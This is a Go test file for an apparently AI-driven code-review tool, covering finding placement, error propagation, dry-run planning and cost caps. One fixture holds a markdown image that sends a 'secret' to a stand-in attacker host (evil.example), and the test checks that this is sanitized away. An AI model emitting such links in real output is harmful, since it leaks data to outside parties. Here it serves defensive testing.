package review

import (
	"context"
	"errors"
	"fmt"
	"github.com/reviewbot/reviewbot/gitrepo"
	"strings"
	"testing"

	"github.com/reviewbot/reviewbot/internal/gittest"

	"github.com/reviewbot/reviewbot/codebase"
	"github.com/reviewbot/reviewbot/tiers"
)

// fakeModel is a hand-written Model whose behaviour each test sets.
type fakeModel struct {
	run func(ctx context.Context, tier tiers.Tier, in tiers.Input) (*tiers.Result, error)
}

var _ Model = (*fakeModel)(nil)

func (f *fakeModel) Run(ctx context.Context, tier tiers.Tier, in tiers.Input) (*tiers.Result, error) {
	return f.run(ctx, tier, in)
}

// Plan estimates with the default model table, as a real engine would.
func (f *fakeModel) Plan(tier tiers.Tier, in tiers.Input) (*tiers.PlanResult, error) {
	return tiers.Plan(tiers.Config{}, tier, in)
}

func TestRunPlacesFindings(t *testing.T) {
	d := mustParse(t, anchorDiff)
	cfg := DefaultConfig()
	cfg.MaxComments = 4
	var gotIn tiers.Input
	model := &fakeModel{run: func(_ context.Context, tier tiers.Tier, in tiers.Input) (*tiers.Result, error) {
		gotIn = in
		if tier != tiers.Team {
			t.Errorf("tier = %s", tier)
		}
		return &tiers.Result{
			Tier:    tier,
			Summary: tiers.Summary{Summary: "Renames things.", Risk: "medium", Labels: []string{"refactor"}},
			Findings: []tiers.Finding{
				{Path: "a.go", Line: 12, StartLine: 11, Severity: "major", Category: "bug", Title: "Wrong value", Body: "b", Suggestion: "fixed11\nfixed12"},
				{Path: "a.go", Line: 11, Side: "LEFT", Severity: "critical", Category: "bug", Title: "Removed check", Body: "b", Suggestion: "keep it"},
				{Path: "a.go", Line: 30, Severity: "minor", Category: "style", Title: "Outside", Body: "b"},
				{Path: "a.go", Line: 42, Severity: "minor", Category: "test", Title: "Third inline", Body: "b"},
				{Path: "a.go", Line: 41, Severity: "nit", Category: "style", Title: "Tiny", Body: "b"},
				{Path: "a.go", Line: 43, Severity: "major", Category: "bug", Title: "No-op suggestion", Body: "cc @admin ![x](https://evil.example/?q=secret)", Suggestion: "ctx42\n"},
			},
			Dropped: []tiers.Dropped{{Item: "finding 7", Reason: "path not in the diff"}},
			Usage:   tiers.Usage{Calls: 2, InputTokens: 100, OutputTokens: 50, CostUSD: 0.01},
			Model:   "fake",
		}, nil
	}}
	res, err := Run(context.Background(), Job{Repo: "o/r", Diff: d, Config: cfg, Tier: tiers.Team}, model)
	if err != nil {
		t.Fatal(err)
	}
	if len(gotIn.Files) != 3 || !strings.Contains(gotIn.Files[0].Patch, "R11 +new11") || !strings.Contains(gotIn.Files[0].Patch, "L11 -old11") {
		t.Fatalf("model input files: %+v", gotIn.Files)
	}
	if gotIn.CheckFinding == nil || gotIn.CheckFinding(tiers.Finding{Path: "nope.go", Line: 1}) == nil {
		t.Error("CheckFinding must reject a path outside the diff")
	}
	byTitle := map[string]Finding{}
	for _, f := range res.Findings {
		byTitle[f.Title] = f
	}
	if f := byTitle["Wrong value"]; f.Anchor != "inline" || f.StartLine != 11 || f.Line != 12 || f.Suggestion != "fixed11\nfixed12" || f.Fingerprint == "" {
		t.Errorf("inline RIGHT finding = %+v", f)
	}
	if f := byTitle["Removed check"]; f.Anchor != "inline" || f.Side != "LEFT" || f.Suggestion != "" || !strings.Contains(f.Body, "keep it") || !strings.Contains(f.AnchorReason, "suggestion not attached") {
		t.Errorf("LEFT finding with suggestion = %+v", f)
	}
	if f := byTitle["Outside"]; f.Anchor != "file" || !strings.Contains(f.AnchorReason, "outside the changed hunks") {
		t.Errorf("outside finding = %+v", f)
	}
	if f := byTitle["No-op suggestion"]; f.Suggestion != "" {
		t.Errorf("a suggestion equal to the current line must be removed: %+v", f)
	}
	if f := byTitle["No-op suggestion"]; f.Body != "cc @\u200badmin [image removed: x]" {
		t.Errorf("model prose not sanitized: %q", f.Body)
	}
	// critical, major, major and the first minor take the four places of
	// max_comments=4;
	// moves the rest to the summary with a reason.
	if f := byTitle["Third inline"]; f.Anchor != "summary" || !strings.Contains(f.AnchorReason, "max_comments") {
		t.Errorf("over-limit finding = %+v", f)
	}
	if _, ok := byTitle["Tiny"]; ok {
		t.Error("nit shown despite min_severity minor")
	}
	if res.Findings[0].Severity != "critical" {
		t.Errorf("findings not ordered by severity: %+v", res.Findings[0])
	}
	notes := strings.Join(res.Notes, "\n")
	for _, want := range []string{"1 finding(s) below min_severity", "1 invalid item(s)", "path not in the diff", "no repository tree"} {
		if !strings.Contains(notes, want) {
			t.Errorf("notes lack %q: %s", want, notes)
		}
	}
	if res.Usage.Calls != 2 || res.Usage.Estimated || res.Model != "fake" || res.Labels[0] != "refactor" {
		t.Errorf("result = %+v", res)
	}
}

func TestRunPropagatesUpstreamFailure(t *testing.T) {
	d := mustParse(t, anchorDiff)
	model := &fakeModel{run: func(context.Context, tiers.Tier, tiers.Input) (*tiers.Result, error) {
		return nil, fmt.Errorf("bedrock: %w", tiers.ErrUpstream)
	}}
	res, err := Run(context.Background(), Job{Diff: d, Config: DefaultConfig(), Tier: tiers.Free}, model)
	if !errors.Is(err, tiers.ErrUpstream) || res != nil {
		t.Fatalf("res %v err %v: a failed model call must fail the run, not produce an empty review", res, err)
	}
}

func TestRunDryRunOnRealRepo(t *testing.T) {
	repo := gittest.New(t)
	repo.Write(map[string]string{
		"calc/calc.go": "package calc\n\n// Add adds.\nfunc Add(a, b int) int {\n\treturn a + b\n}\n",
		"main.go":      "package main\n\nimport \"example.com/m/calc\"\n\nfunc main() {\n\tprintln(calc.Add(1, 2))\n}\n",
		"go.mod":       "module example.com/m\n\ngo 1.22\n",
	})
	repo.Commit("base")
	repo.Write(map[string]string{"calc/calc.go": "package calc\n\n// Add adds.\nfunc Add(a, b int) int {\n\treturn b + a\n}\n", "go.sum": "x v1 h1:abc=\n"})
	repo.Commit("swap operands")
	ctx := context.Background()
	r, err := gitrepo.ResolveRange(ctx, repo.Dir, "HEAD~1", "")
	if err != nil {
		t.Fatal(err)
	}
	raw, err := r.Diff(ctx)
	if err != nil {
		t.Fatal(err)
	}
	d, err := ParseGitDiff(raw)
	if err != nil {
		t.Fatal(err)
	}
	job := Job{Repo: r.Name, Base: r.Base, Head: r.Head, Diff: d, Config: DefaultConfig(), DryRun: true,
		HeadTree: codebase.GitTree(r.Dir, r.Head), BaseTree: codebase.GitTree(r.Dir, r.Base)}
	res, err := Run(ctx, job, tiers.NewPlanner(tiers.Config{}))
	if err != nil {
		t.Fatal(err)
	}
	if !res.DryRun || !res.Usage.Estimated || res.Usage.Calls < 1 || res.Usage.InputTokens == 0 || len(res.Planned) == 0 {
		t.Errorf("dry-run usage = %+v planned %+v", res.Usage, res.Planned)
	}
	if len(res.Files) != 2 || len(res.Skipped) != 1 || res.Skipped[0].Path != "go.sum" {
		t.Errorf("files %+v skipped %+v", res.Files, res.Skipped)
	}
	found := false
	for _, im := range res.Impact {
		for _, l := range im.Locations {
			if strings.HasPrefix(im.Symbol, "calc.Add") && l == "main.go:6" {
				found = true
			}
		}
	}
	if !found {
		t.Errorf("impact does not list the caller main.go:6 of calc.Add: %+v", res.Impact)
	}
	if !strings.Contains(res.Summary, "Dry run") {
		t.Errorf("summary = %q", res.Summary)
	}
}

func TestBuildInputDropsContextTheHunkShows(t *testing.T) {
	d := mustParse(t, anchorDiff)
	kept, _ := FilterFiles(d, &Config{}, nil)
	a := &codebase.Analysis{Context: []codebase.ContextItem{
		{Path: "a.go", StartLine: 10, EndLine: 15, Kind: "enclosing", Text: "inside the first hunk"},
		{Path: "a.go", StartLine: 5, EndLine: 15, Kind: "enclosing", Text: "starts before the hunk"},
		{Path: "b.go", StartLine: 1, EndLine: 3, Kind: "definition", Text: "another file"},
	}}
	in := buildInput(Job{Diff: d}, kept, a)
	var texts []string
	for _, c := range in.Context {
		texts = append(texts, c.Text)
	}
	if strings.Join(texts, "|") != "starts before the hunk|another file" {
		t.Errorf("context = %q", texts)
	}
}

func TestRunCostCap(t *testing.T) {
	d := mustParse(t, anchorDiff)
	kept, _ := FilterFiles(d, &Config{}, nil)
	in := buildInput(Job{Diff: d}, kept, nil)
	team, err1 := tiers.Plan(tiers.Config{}, tiers.Team, in)
	free, err2 := tiers.Plan(tiers.Config{}, tiers.Free, in)
	if err1 != nil || err2 != nil || !(free.Usage.CostUSD < team.Usage.CostUSD) {
		t.Fatalf("plans: %v %v free %+v team %+v", err1, err2, free.Usage, team.Usage)
	}
	var ranTier tiers.Tier
	model := &fakeModel{run: func(_ context.Context, tier tiers.Tier, in tiers.Input) (*tiers.Result, error) {
		ranTier = tier
		return &tiers.Result{Tier: tier, Summary: tiers.Summary{Summary: "s", Risk: "low"}}, nil
	}}
	cfg := DefaultConfig()

	// Between the two estimates: team falls back to free, and says so.
	cfg.MaxCostUSD = (free.Usage.CostUSD + team.Usage.CostUSD) / 2
	res, err := Run(context.Background(), Job{Diff: d, Config: cfg, Tier: tiers.Team}, model)
	if err != nil || ranTier != tiers.Free || res.Tier != "free" || !strings.Contains(res.RouteReason, "over max_cost_usd") {
		t.Fatalf("fallback: err %v ran %s result %+v", err, ranTier, res)
	}

	// Below both: nothing is spent and the error says what to change.
	ranTier = ""
	cfg.MaxCostUSD = free.Usage.CostUSD / 2
	_, err = Run(context.Background(), Job{Diff: d, Config: cfg, Tier: tiers.Team}, model)
	if !errors.Is(err, ErrCostCap) || ranTier != "" || !strings.Contains(err.Error(), "raise max_cost_usd") {
		t.Fatalf("over cap: err %v, model ran %q", err, ranTier)
	}

	// 0 is no cap.
	cfg.MaxCostUSD = 0
	if _, err := Run(context.Background(), Job{Diff: d, Config: cfg, Tier: tiers.Team}, model); err != nil || ranTier != tiers.Team {
		t.Fatalf("no cap: err %v ran %s", err, ranTier)
	}
}
